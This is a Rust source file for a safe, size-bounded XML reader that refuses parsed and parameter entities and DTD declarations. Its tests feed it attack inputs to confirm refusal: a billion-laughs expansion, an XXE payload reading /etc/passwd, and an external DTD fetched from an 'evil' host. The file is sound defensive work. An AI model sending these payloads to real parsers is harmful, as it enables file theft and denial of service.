//! A small, bounded, safe XML tree reader on quick-xml.
//!
//! Safety rules (DESIGN §3.2): no DTD is ever fetched (quick-xml never
//! loads one); the DOCTYPE internal subset may declare only *unparsed*
//! entities (`<!ENTITY n SYSTEM "f" NDATA x>`) and notations, which are
//! returned to the caller. Any parsed entity (internal text → billion laughs,
//! external → XXE), parameter entity, or element/attribute-list declaration
//! (which could change default attribute values, e.g. a 密等 level) is
//! refused as unsafe, as is any entity reference other than the five
//! predefined ones and character references. Size, depth, element count and
//! attribute count are bounded.

use quick_xml::Reader;
use quick_xml::events::{BytesStart, Event};

#[derive(Debug, Clone, Copy)]
pub struct Limits {
    pub max_bytes: usize,
    pub max_depth: usize,
    pub max_elements: usize,
    pub max_attributes: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Limits { max_bytes: 5 * 1024 * 1024, max_depth: 32, max_elements: 20_000, max_attributes: 32 }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum XmlError {
    /// Entity or DTD constructs the hub refuses to process.
    #[error("{0}")]
    Unsafe(String),
    /// Not well-formed, or beyond the size bounds.
    #[error("{0}")]
    Malformed(String),
}

/// An unparsed entity declared in the internal subset: an attachment or the SW.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnparsedEntity {
    pub name: String,
    pub system_id: String,
    pub notation: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Doctype {
    pub root: String,
    pub system_id: Option<String>,
    pub entities: Vec<UnparsedEntity>,
    pub notations: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Node {
    Element(Element),
    Text(String),
}

#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Element {
    pub name: String,
    pub attrs: Vec<(String, String)>,
    pub children: Vec<Node>,
}

impl Element {
    pub fn attr(&self, name: &str) -> Option<&str> {
        self.attrs.iter().find(|(k, _)| k == name).map(|(_, v)| v.as_str())
    }

    pub fn elements(&self) -> impl Iterator<Item = &Element> {
        self.children.iter().filter_map(|n| match n {
            Node::Element(e) => Some(e),
            Node::Text(_) => None,
        })
    }

    pub fn child(&self, name: &str) -> Option<&Element> {
        self.elements().find(|e| e.name == name)
    }

    pub fn children_named<'a>(&'a self, name: &'a str) -> impl Iterator<Item = &'a Element> + 'a {
        self.elements().filter(move |e| e.name == name)
    }

    /// The concatenated text directly inside this element.
    pub fn text(&self) -> String {
        self.children
            .iter()
            .filter_map(|n| match n {
                Node::Text(t) => Some(t.as_str()),
                Node::Element(_) => None,
            })
            .collect()
    }

    /// Whether the element has non-whitespace text directly inside.
    pub fn has_text(&self) -> bool {
        !self.text().trim().is_empty()
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Document {
    pub doctype: Option<Doctype>,
    pub root: Element,
}

/// Parses `bytes` (UTF-8) into a tree within `limits`.
pub fn parse(bytes: &[u8], limits: Limits) -> Result<Document, XmlError> {
    if bytes.len() > limits.max_bytes {
        return Err(XmlError::Malformed(format!("larger than the limit of {} bytes", limits.max_bytes)));
    }
    let text = std::str::from_utf8(bytes).map_err(|e| XmlError::Malformed(format!("not UTF-8: {e}")))?;
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut reader = Reader::from_str(text);
    let mut doctype = None;
    let mut stack: Vec<Element> = Vec::new();
    let mut root = None;
    let mut count = 0usize;
    let bad = |e: quick_xml::Error, pos: u64| XmlError::Malformed(format!("at byte {pos}: {e}"));

    loop {
        let pos = reader.buffer_position();
        let event = reader.read_event().map_err(|e| bad(e, pos))?;
        match event {
            Event::Decl(d) => {
                if let Some(Ok(enc)) = d.encoding() {
                    let enc = enc.to_ascii_lowercase();
                    if enc != "utf-8" && enc != "utf8" {
                        return Err(XmlError::Malformed(format!("encoding '{enc}': only UTF-8 is accepted")));
                    }
                }
            }
            Event::DocType(d) => {
                if root.is_some() || !stack.is_empty() || doctype.is_some() {
                    return Err(XmlError::Malformed("misplaced DOCTYPE".into()));
                }
                doctype = Some(parse_doctype(&d.xml10_content())?);
            }
            Event::Start(s) => {
                count += 1;
                let el = start(&s, count, &limits)?;
                if root.is_some() {
                    return Err(XmlError::Malformed("content after the root element".into()));
                }
                stack.push(el);
                if stack.len() > limits.max_depth {
                    return Err(XmlError::Malformed(format!("nested deeper than {} levels", limits.max_depth)));
                }
            }
            Event::Empty(s) => {
                count += 1;
                let el = start(&s, count, &limits)?;
                match stack.last_mut() {
                    Some(parent) => parent.children.push(Node::Element(el)),
                    None if root.is_none() => root = Some(el),
                    None => return Err(XmlError::Malformed("content after the root element".into())),
                }
            }
            Event::End(_) => {
                // quick-xml checks that end names match.
                let el = stack.pop().ok_or_else(|| XmlError::Malformed("unexpected end tag".into()))?;
                match stack.last_mut() {
                    Some(parent) => parent.children.push(Node::Element(el)),
                    None => root = Some(el),
                }
            }
            Event::Text(t) => push_text(&mut stack, &t.xml10_content())?,
            Event::CData(c) => push_text(&mut stack, &c.into_inner())?,
            Event::GeneralRef(r) => {
                let name = r.xml10_content();
                let ch = match r.resolve_char_ref() {
                    Ok(Some(c)) => c.to_string(),
                    Ok(None) => match &*name {
                        "lt" => "<".into(),
                        "gt" => ">".into(),
                        "amp" => "&".into(),
                        "apos" => "'".into(),
                        "quot" => "\"".into(),
                        other => return Err(XmlError::Unsafe(format!("entity reference &{other}; is not allowed"))),
                    },
                    Err(e) => return Err(XmlError::Malformed(format!("bad character reference &{name};: {e}"))),
                };
                push_text(&mut stack, &ch)?;
            }
            Event::Comment(_) | Event::PI(_) => {}
            Event::Eof => break,
        }
    }
    if !stack.is_empty() {
        return Err(XmlError::Malformed("unclosed element".into()));
    }
    let root = root.ok_or_else(|| XmlError::Malformed("no root element".into()))?;
    if let Some(d) = &doctype
        && d.root != root.name
    {
        return Err(XmlError::Malformed(format!("DOCTYPE names <{}> but the root is <{}>", d.root, root.name)));
    }
    Ok(Document { doctype, root })
}

fn push_text(stack: &mut [Element], t: &str) -> Result<(), XmlError> {
    match stack.last_mut() {
        Some(el) => {
            if let Some(Node::Text(prev)) = el.children.last_mut() {
                prev.push_str(t);
            } else {
                el.children.push(Node::Text(t.to_owned()));
            }
            Ok(())
        }
        None if t.trim().is_empty() => Ok(()),
        None => Err(XmlError::Malformed("text outside the root element".into())),
    }
}

fn start(s: &BytesStart<'_>, count: usize, limits: &Limits) -> Result<Element, XmlError> {
    if count > limits.max_elements {
        return Err(XmlError::Malformed(format!("more than {} elements", limits.max_elements)));
    }
    let name = s.name().as_ref().to_owned();
    let mut attrs = Vec::new();
    for a in s.attributes() {
        let a = a.map_err(|e| XmlError::Malformed(format!("<{name}>: bad attribute: {e}")))?;
        let key = a.key.as_ref().to_owned();
        let value = a
            .normalized_value(quick_xml::XmlVersion::Implicit1_0)
            .map_err(|e| XmlError::Unsafe(format!("<{name} {key}>: {e} (only the predefined entities are allowed)")))?;
        if attrs.iter().any(|(k, _)| *k == key) {
            return Err(XmlError::Malformed(format!("<{name}>: duplicate attribute {key}")));
        }
        attrs.push((key, value.into_owned()));
        if attrs.len() > limits.max_attributes {
            return Err(XmlError::Malformed(format!("<{name}>: more than {} attributes", limits.max_attributes)));
        }
    }
    Ok(Element { name, attrs, children: Vec::new() })
}

/// Reads a DOCTYPE declaration's text (after `<!DOCTYPE`): root name,
/// external identifier, and the internal subset under the rules above.
pub fn parse_doctype(text: &str) -> Result<Doctype, XmlError> {
    let mut p = Cursor { s: text.trim_start() };
    let root = p.name().ok_or_else(|| XmlError::Malformed("DOCTYPE without a root name".into()))?;
    let mut d = Doctype { root, ..Default::default() };
    p.ws();
    if p.keyword("SYSTEM") {
        d.system_id = Some(p.quoted()?);
    } else if p.keyword("PUBLIC") {
        p.quoted()?;
        d.system_id = Some(p.quoted()?);
    }
    p.ws();
    if p.eat("[") {
        loop {
            p.ws();
            if p.eat("]") {
                break;
            }
            if p.s.is_empty() {
                return Err(XmlError::Malformed("unterminated DOCTYPE internal subset".into()));
            }
            if p.eat("<!--") {
                let end =
                    p.s.find("-->").ok_or_else(|| XmlError::Malformed("unterminated comment in DOCTYPE".into()))?;
                p.s = &p.s[end + 3..];
            } else if p.eat("<?") {
                let end = p.s.find("?>").ok_or_else(|| XmlError::Malformed("unterminated PI in DOCTYPE".into()))?;
                p.s = &p.s[end + 2..];
            } else if p.eat("<!ENTITY") {
                d.entities.push(entity_decl(&mut p)?);
            } else if p.eat("<!NOTATION") {
                p.ws();
                let name = p.name().ok_or_else(|| XmlError::Malformed("NOTATION without a name".into()))?;
                p.ws();
                if p.keyword("SYSTEM") {
                    p.quoted()?;
                } else if p.keyword("PUBLIC") {
                    p.quoted()?;
                    p.ws();
                    if p.s.starts_with(['"', '\'']) {
                        p.quoted()?;
                    }
                } else {
                    return Err(XmlError::Malformed(format!("NOTATION {name}: SYSTEM or PUBLIC expected")));
                }
                p.ws();
                p.expect(">")?;
                d.notations.push(name);
            } else if p.s.starts_with('%') {
                return Err(XmlError::Unsafe("parameter entity references are not allowed in the DOCTYPE".into()));
            } else if p.s.starts_with("<!ELEMENT") || p.s.starts_with("<!ATTLIST") {
                return Err(XmlError::Unsafe(
                    "the DOCTYPE may declare only unparsed entities and notations, not elements or attributes".into(),
                ));
            } else {
                let shown: String = p.s.chars().take(30).collect();
                return Err(XmlError::Malformed(format!("unexpected '{shown}' in the DOCTYPE")));
            }
        }
    }
    p.ws();
    if !p.s.is_empty() {
        return Err(XmlError::Malformed("unexpected text after the DOCTYPE internal subset".into()));
    }
    for e in &d.entities {
        if !d.notations.contains(&e.notation) {
            return Err(XmlError::Malformed(format!("entity {} uses undeclared notation {}", e.name, e.notation)));
        }
    }
    Ok(d)
}

fn entity_decl(p: &mut Cursor<'_>) -> Result<UnparsedEntity, XmlError> {
    p.ws();
    if p.s.starts_with('%') {
        return Err(XmlError::Unsafe("parameter entities are not allowed".into()));
    }
    let name = p.name().ok_or_else(|| XmlError::Malformed("ENTITY without a name".into()))?;
    p.ws();
    let system_id = if p.keyword("SYSTEM") {
        p.quoted()?
    } else if p.keyword("PUBLIC") {
        p.quoted()?;
        p.quoted()?
    } else {
        return Err(XmlError::Unsafe(format!(
            "entity {name} is an internal parsed entity (text replacement); only unparsed entities are allowed"
        )));
    };
    p.ws();
    if !p.keyword("NDATA") {
        return Err(XmlError::Unsafe(format!(
            "entity {name} is an external parsed entity (SYSTEM \"{system_id}\" without NDATA); only unparsed entities are allowed"
        )));
    }
    let notation = p.name().ok_or_else(|| XmlError::Malformed(format!("entity {name}: notation name expected")))?;
    p.ws();
    p.expect(">")?;
    Ok(UnparsedEntity { name, system_id, notation })
}

struct Cursor<'a> {
    s: &'a str,
}

impl Cursor<'_> {
    fn ws(&mut self) {
        self.s = self.s.trim_start_matches([' ', '\t', '\r', '\n']);
    }

    fn eat(&mut self, t: &str) -> bool {
        match self.s.strip_prefix(t) {
            Some(rest) => {
                self.s = rest;
                true
            }
            None => false,
        }
    }

    fn expect(&mut self, t: &str) -> Result<(), XmlError> {
        if self.eat(t) { Ok(()) } else { Err(XmlError::Malformed(format!("'{t}' expected in the DOCTYPE"))) }
    }

    /// A keyword followed by whitespace.
    fn keyword(&mut self, k: &str) -> bool {
        let ok = self.s.starts_with(k) && self.s[k.len()..].starts_with([' ', '\t', '\r', '\n']);
        if ok {
            self.s = &self.s[k.len()..];
            self.ws();
        }
        ok
    }

    fn name(&mut self) -> Option<String> {
        let end = self
            .s
            .find(|c: char| c.is_whitespace() || matches!(c, '>' | '[' | '"' | '\'' | ';' | '%'))
            .unwrap_or(self.s.len());
        if end == 0 {
            return None;
        }
        let n = self.s[..end].to_owned();
        self.s = &self.s[end..];
        Some(n)
    }

    fn quoted(&mut self) -> Result<String, XmlError> {
        self.ws();
        let q = self.s.chars().next().filter(|c| *c == '"' || *c == '\'');
        let q = q.ok_or_else(|| XmlError::Malformed("quoted literal expected in the DOCTYPE".into()))?;
        let rest = &self.s[1..];
        let end = rest.find(q).ok_or_else(|| XmlError::Malformed("unterminated literal in the DOCTYPE".into()))?;
        let v = rest[..end].to_owned();
        self.s = &rest[end + 1..];
        self.ws();
        Ok(v)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(s: &str) -> Result<Document, XmlError> {
        parse(s.as_bytes(), Limits::default())
    }

    #[test]
    fn reads_unparsed_entities_and_the_tree() {
        let d = p(r#"<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE 函 SYSTEM "104_2_utf8.dtd" [
<!ENTITY 表單 SYSTEM "1150003012.sw" NDATA DI>
<!ENTITY ATTCH1 SYSTEM "1150003012_ATTCH1.pdf" NDATA _X>
<!NOTATION DI SYSTEM "">
<!NOTATION _X SYSTEM "">
]>
<函><主旨><文字>a &amp; b &#x41;</文字></主旨><附件檔名 附件名="ATTCH1"/></函>"#)
        .unwrap();
        let dt = d.doctype.unwrap();
        assert_eq!(dt.root, "函");
        assert_eq!(dt.system_id.as_deref(), Some("104_2_utf8.dtd"));
        assert_eq!(dt.entities.len(), 2);
        assert_eq!(dt.entities[0].name, "表單");
        assert_eq!(dt.entities[1].system_id, "1150003012_ATTCH1.pdf");
        assert_eq!(d.root.child("主旨").unwrap().child("文字").unwrap().text(), "a & b A");
        assert_eq!(d.root.child("附件檔名").unwrap().attr("附件名"), Some("ATTCH1"));
    }

    #[test]
    fn refuses_billion_laughs_and_xxe() {
        let laughs = r#"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>"#;
        assert!(matches!(p(laughs), Err(XmlError::Unsafe(m)) if m.contains("internal parsed entity")));
        let xxe = r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
        assert!(matches!(p(xxe), Err(XmlError::Unsafe(m)) if m.contains("external parsed entity")));
        let param = r#"<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><foo/>"#;
        assert!(matches!(p(param), Err(XmlError::Unsafe(_))));
        // An undeclared entity reference, in text or in an attribute.
        assert!(matches!(p("<foo>&lol9;</foo>"), Err(XmlError::Unsafe(_))));
        assert!(matches!(p(r#"<foo a="&x;"/>"#), Err(XmlError::Unsafe(_))));
        // Declarations that could change defaults.
        let attlist = r#"<!DOCTYPE 函 [<!ATTLIST 密等 代碼 CDATA "機密">]><函/>"#;
        assert!(matches!(p(attlist), Err(XmlError::Unsafe(_))));
    }

    #[test]
    fn bounds_depth_count_and_size() {
        let deep = format!("{}{}", "<a>".repeat(40), "</a>".repeat(40));
        assert!(matches!(p(&deep), Err(XmlError::Malformed(m)) if m.contains("deeper")));
        let many = format!("<a>{}</a>", "<b/>".repeat(20_001));
        assert!(matches!(p(&many), Err(XmlError::Malformed(m)) if m.contains("more than")));
        let small = Limits { max_bytes: 10, ..Limits::default() };
        assert!(parse(b"<a>0123456789</a>", small).is_err());
        assert!(p("<a><b></a>").is_err());
        assert!(p("<a/><b/>").is_err());
        assert!(p(r#"<?xml version="1.0" encoding="big5"?><a/>"#).is_err());
    }
}
